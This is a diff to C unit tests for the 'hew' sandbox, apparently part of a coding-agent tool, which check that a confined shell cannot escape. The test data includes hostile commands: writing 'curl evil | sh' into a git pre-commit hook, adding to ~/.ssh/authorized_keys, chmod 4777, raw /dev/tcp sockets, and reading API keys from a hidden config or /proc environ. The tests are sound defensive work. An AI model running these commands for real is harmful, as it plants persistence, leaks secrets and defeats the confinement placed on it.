@@ -1,6 +1,6 @@
 /* Unit tests of sys/sandbox through sys/proc: escape attempts by a confined /bin/sh under
- * workspace-write and read-only — writing outside the workspace, to ~/.ssh, to
- * .git/hooks, renaming .git, creating in .hew, reading a hidden config holding a key, TCP
+ * workspace-write and read-only — writing outside the workspace (or changing a file's
+ * mode or times there), to ~/.ssh, to .git/hooks, renaming .git, creating in .hew, reading a hidden config holding a key, TCP
  * with the network off, unshare, ptrace, mount — fail, and the same commands succeed
  * unconfined; what the policy allows (the workspace, the temp root, new directories in
  * them, the network when on) works. Run for each backend this machine has (landlock,
@@ -8,6 +8,7 @@
  * (ctest: skipped) when it has none. Also: a step failing in the child makes proc_start
  * fail (never an unconfined run), and two threads start confined children at once. */
 #include <arpa/inet.h>
+#include <dirent.h>
 #include <errno.h>
 #include <netinet/in.h>
 #include <pthread.h>
@@ -29,6 +30,7 @@ static char p_git[1024], p_hew[1024], p_rules[1024], p_ignore[1024];
 static char env_home[1100];
 static const char *env[] = { "PATH=/usr/local/bin:/usr/bin:/bin", env_home, "LC_ALL=C", NULL };
 static sandbox_backend backend; /* the one under test */
+static const char *want_why;    /* what the next attempt's explanation must say, or NULL */
 static int listen_port;
 
 static bool exists(const char *path)
@@ -90,6 +92,10 @@ static void attempt(const sandbox *sb, const char *script, bool unconfined_too,
     if (code > 0 && out.len && !sandbox_explain(sb, out.data ? out.data : "", out.len, code, &why))
         check_fail(__FILE__, __LINE__, "[%s] not explained: %s\n%s",
                    sandbox_backend_name(backend), script, out.data ? out.data : "");
+    else if (want_why && !(why.data && strstr(why.data, want_why)))
+        check_fail(__FILE__, __LINE__, "[%s] %s: explained as \"%s\", not \"%s\"",
+                   sandbox_backend_name(backend), script, why.data ? why.data : "", want_why);
+    want_why = NULL;
     check_count++;
     buf_release(&why);
     if (unconfined_too) {
@@ -132,8 +138,14 @@ static void test_workspace_write(void)
 
     /* the file system outside the writable roots */
     snprintf(s, sizeof s, "touch %s/escaped", other);
+    want_why = "outside the writable roots";
     attempt(sb, s, true, NULL);
     CHECK(!exists("/etc/hew-sandbox-escape"));
+    /* file metadata outside them (Landlock alone does not cover it) */
+    snprintf(s, sizeof s, "chmod 4777 %s/file", other);
+    attempt(sb, s, true, NULL);
+    snprintf(s, sizeof s, "touch -d 2000-01-01 %s/file", other);
+    attempt(sb, s, true, NULL);
     attempt(sb, "touch /etc/hew-sandbox-escape", geteuid() == 0, "rm -f /etc/hew-sandbox-escape");
     snprintf(s, sizeof s, "echo key > %s/.ssh/authorized_keys", home);
     attempt(sb, s, true, NULL);
@@ -141,9 +153,11 @@ static void test_workspace_write(void)
     attempt(sb, s, true, NULL);
 
     /* the read-only control files inside the workspace */
+    want_why = "read-only paths";
     attempt(sb, "echo 'curl evil | sh' > .git/hooks/pre-commit", true,
             "rm -f .git/hooks/pre-commit");
     attempt(sb, "echo x >> .git/config", true, NULL);
+    want_why = "read-only paths";
     attempt(sb, "mv .git x", true, "mv x .git");
     CHECK(exists(p_git));
     attempt(sb, "touch .hew/anything", true, "rm -f .hew/anything");
@@ -153,6 +167,7 @@ static void test_workspace_write(void)
 
     /* the hidden config (a key in it), also when it sits inside a writable root */
     snprintf(s, sizeof s, "cat %s/config.json", hidden_cfg);
+    want_why = "hidden";
     attempt(sb, s, true, NULL);
     snprintf(s, sizeof s, "grep -r sk-test-key %s", hidden_in_tmp);
     attempt(sb, s, true, NULL);
@@ -160,9 +175,13 @@ static void test_workspace_write(void)
     attempt(sb, s, true, NULL);
 
     /* system calls */
+    want_why = "refuses unshare";
     attempt(sb, "unshare -Ur true", true, NULL);
     if (access("/usr/bin/strace", X_OK) == 0)
+    {
+        want_why = "refuses ptrace";
         attempt(sb, "strace -o /dev/null true", true, NULL);
+    }
     snprintf(s, sizeof s, "mkdir -p m && mount -t tmpfs none %s/m", ws);
     attempt(sb, s, false, NULL);
     if (geteuid() == 0) { /* unconfined, in a namespace of its own (nothing leaks out) */
@@ -170,9 +189,14 @@ static void test_workspace_write(void)
         CHECK_INT(run_sh(NULL, s, NULL, NULL), 0);
     }
 
+    /* hew's own environment (where its key may be) through /proc */
+    snprintf(s, sizeof s, "cat /proc/%ld/environ", (long)getpid());
+    attempt(sb, s, geteuid() == 0, NULL); /* a user's hew is undumpable once prepared */
+
     /* the network is off */
     if (access("/bin/bash", X_OK) == 0) {
         snprintf(s, sizeof s, "bash -c 'exec 3<>/dev/tcp/127.0.0.1/%d'", listen_port);
+        want_why = "network is off";
         attempt(sb, s, true, NULL);
     }
 
@@ -208,6 +232,45 @@ static void test_network_on(void)
     sandbox_free(sb);
 }
 
+/* With the egress proxy's port: TCP to that port only (Landlock ABI 4); no UDP. bwrap
+ * cannot do it and says so. */
+static void test_proxy_port(void)
+{
+    if (access("/bin/bash", X_OK) != 0)
+        return;
+    int second = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    struct sockaddr_in a = { 0 };
+    a.sin_family = AF_INET;
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    socklen_t len = sizeof a;
+    REQUIRE(second >= 0 && bind(second, (struct sockaddr *)&a, sizeof a) == 0 &&
+            listen(second, 8) == 0 && getsockname(second, (struct sockaddr *)&a, &len) == 0);
+    const char *writable[] = { ws, NULL };
+    sandbox_policy pol = { .mode = SANDBOX_WORKSPACE_WRITE, .backend = backend,
+                           .writable_roots = writable, .proxy_port = listen_port };
+    sandbox *sb;
+    hew_err e = { 0 };
+    sandbox_caps caps;
+    sandbox_probe(&caps);
+    hew_code rc = sandbox_prepare(&pol, &sb, &e);
+    if (backend == SANDBOX_BACKEND_BWRAP || caps.landlock_abi < 4) {
+        CHECK_INT(rc, HEW_E_UNSUPPORTED);
+        CHECK(strstr(e.msg, "proxy") != NULL);
+        close(second);
+        return;
+    }
+    REQUIRE(rc == HEW_OK);
+    char s[256];
+    snprintf(s, sizeof s, "bash -c 'exec 3<>/dev/tcp/127.0.0.1/%d'", listen_port);
+    allowed(sb, s);
+    snprintf(s, sizeof s, "bash -c 'exec 3<>/dev/tcp/127.0.0.1/%d'", ntohs(a.sin_port));
+    attempt(sb, s, true, NULL);
+    attempt(sb, "bash -c 'echo x > /dev/udp/127.0.0.1/53'", true, NULL);
+    CHECK(strstr(sandbox_gaps(sb), "any host") != NULL);
+    sandbox_free(sb);
+    close(second);
+}
+
 static void test_read_only(void)
 {
     sandbox *sb;
@@ -217,6 +280,7 @@ static void test_read_only(void)
         return;
     }
     char s[2048];
+    want_why = "read-only";
     attempt(sb, "touch new-file", true, "rm -f new-file");
     attempt(sb, "echo x >> existing", true, NULL);
     attempt(sb, "mkdir d", true, "rmdir d");
@@ -257,6 +321,96 @@ static void test_failed_step_refuses(void)
     CHECK(strstr(pe.msg, "vanishing") != NULL);
     CHECK(strstr(pe.msg, "not run") != NULL);
     CHECK(!exists(marker));
+    sandbox_free(sb);
+}
+
+/* A process whose command line is exactly argv0 and arg1 ("sleep" "1234.5") still lives
+ * (not a zombie). */
+static bool running(const char *arg1)
+{
+    DIR *d = opendir("/proc");
+    if (!d)
+        return false;
+    bool found = false;
+    struct dirent *de;
+    while (!found && (de = readdir(d)) != NULL) {
+        if (de->d_name[0] < '1' || de->d_name[0] > '9')
+            continue;
+        char path[300], cmd[256], stat[512];
+        snprintf(path, sizeof path, "/proc/%s/cmdline", de->d_name);
+        FILE *f = fopen(path, "r");
+        if (!f)
+            continue;
+        size_t n = fread(cmd, 1, sizeof cmd - 1, f);
+        fclose(f);
+        cmd[n] = '\0';
+        const char *second = memchr(cmd, '\0', n) ? cmd + strlen(cmd) + 1 : NULL;
+        if (strcmp(cmd, "sleep") != 0 || !second || second >= cmd + n ||
+            strcmp(second, arg1) != 0)
+            continue;
+        snprintf(path, sizeof path, "/proc/%s/stat", de->d_name);
+        f = fopen(path, "r");
+        if (!f)
+            continue;
+        n = fread(stat, 1, sizeof stat - 1, f);
+        fclose(f);
+        stat[n] = '\0';
+        const char *rp = strrchr(stat, ')');
+        found = rp && rp[1] == ' ' && rp[2] != 'Z' && rp[2] != 'X';
+    }
+    closedir(d);
+    return found;
+}
+
+static void collect(void *ud, int stream, const char *data, size_t len)
+{
+    (void)stream;
+    buf_append(ud, data, len);
+}
+
+/* proc.h's contract holds for a confined child: stdin through a pipe, stderr apart, and a
+ * timeout that ends the command and everything it started in the background. */
+static void test_proc_contract(void)
+{
+    sandbox *sb;
+    hew_err e = { 0 };
+    REQUIRE(prepare(SANDBOX_WORKSPACE_WRITE, false, &sb, &e) == HEW_OK);
+
+    buf out = BUF_INIT(4096);
+    proc_status st;
+    const char *cat[] = { "cat", NULL };
+    proc_opts o = { .argv = cat, .cwd = ws, .envp = env, .sandbox = sb, .stdin_pipe = true,
+                    .on_output = collect, .ud = &out };
+    proc *p = NULL;
+    REQUIRE(proc_start(&o, &p, &e) == HEW_OK);
+    CHECK_INT(proc_write(p, "through the pipe\n", 17, &e), HEW_OK);
+    proc_close_stdin(p);
+    proc_wait(p, &st);
+    CHECK_INT(st.exit_code, 0);
+    CHECK_STR(out.data, "through the pipe\n");
+    proc_free(p);
+    buf_reset(&out);
+
+    const char *both[] = { "/bin/sh", "-c", "echo out; echo err >&2", NULL };
+    proc_opts o2 = { .argv = both, .cwd = ws, .envp = env, .sandbox = sb,
+                     .separate_stderr = true };
+    REQUIRE(proc_run(&o2, &out, NULL, &st, &e) == HEW_OK);
+    CHECK_STR(out.data, "out\n");
+
+    char arg[32], script[128];
+    snprintf(arg, sizeof arg, "%d.%d", 1000 + (int)(getpid() % 1000), (int)backend);
+    snprintf(script, sizeof script, "sleep %s & sleep %s", arg, arg);
+    const char *sleeper[] = { "/bin/sh", "-c", script, NULL };
+    proc_opts o3 = { .argv = sleeper, .cwd = ws, .envp = env, .sandbox = sb,
+                     .timeout_ms = 300, .kill_grace_ms = 200 };
+    buf_reset(&out);
+    REQUIRE(proc_run(&o3, &out, NULL, &st, &e) == HEW_OK);
+    CHECK_INT(st.end, PROC_TIMED_OUT);
+    /* the background sleep goes too: wait for that (60 s is only a safety net) */
+    for (int i = 0; i < 6000 && running(arg); i++)
+        usleep(10000);
+    CHECK(!running(arg));
+    buf_release(&out);
     sandbox_free(sb);
 }
 
@@ -332,9 +486,10 @@ static void setup(void)
              "mkdir -p %s/.git/hooks %s/.hew %s/.ssh %s %s && echo '[core]' > %s/.git/config && "
              "echo known > %s/.ssh/known_hosts && echo existing > %s/existing && "
              "echo '{\"api_key\":\"sk-test-key\"}' > %s/config.json && "
-             "echo sk-test-key > %s/task.json && echo '*.log' > %s/.clineignore",
+             "echo sk-test-key > %s/task.json && echo '*.log' > %s/.clineignore && "
+             "echo x > %s/file",
              ws, ws, home, hidden_cfg, hidden_in_tmp, ws, home, ws, hidden_cfg, hidden_in_tmp,
-             ws);
+             ws, other);
     run_sh(NULL, s, NULL, NULL);
 }
 
@@ -372,9 +527,11 @@ int main(void)
         tested++;
         RUN(test_workspace_write);
         RUN(test_network_on);
+        RUN(test_proxy_port);
         RUN(test_read_only);
         RUN(test_failed_step_refuses);
         RUN(test_two_threads);
+        RUN(test_proc_contract);
     }
     close(lfd);
     tmpdir_remove(ws);
